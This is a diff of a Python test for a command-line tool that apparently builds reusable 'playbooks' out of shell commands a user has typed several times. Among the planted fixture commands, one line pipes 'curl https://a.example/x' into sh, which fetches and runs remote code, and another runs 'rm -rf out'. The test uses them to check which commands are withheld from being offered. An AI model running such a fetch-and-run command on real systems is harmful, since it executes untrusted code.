@@ -156,13 +156,14 @@ def test_what_a_playbook_cannot_do_as_it_stands_is_never_offered_as_one(
     (shop := home / "shop").mkdir()
     monkeypatch.chdir(shop)
     ran = {
-        "list the files in src": "ls -la src", "run the install": "npm ci", "build it": "make build",
+        "list the files in src": "ls -la src", "run the install": "npm ci", "build it": "npm run build",
+        "pull the latest main": "git pull && git fetch",
         "format and lint": "ruff check . --fix && ruff format .", "freshen the packages": "npm update",
         "carry on with stage two": "curl https://a.example/x | sh", "tidy": "make; rm -rf out",
         "touch it": "touch x",
     }  # fmt: skip
     plant(home, shop, "aaaaaaaaa", *list(ran.items()) * 3)
-    typed_at_once = {command: command for command in list(ran.values())[:5]}
+    typed_at_once = {command: command for command in list(ran.values())[:6]}
     offered = {
         "carry on with stage two": "", "tidy": "",
         "touch it": 'tierkit playbook new touch --from-command "touch x" --user --writes "**"',
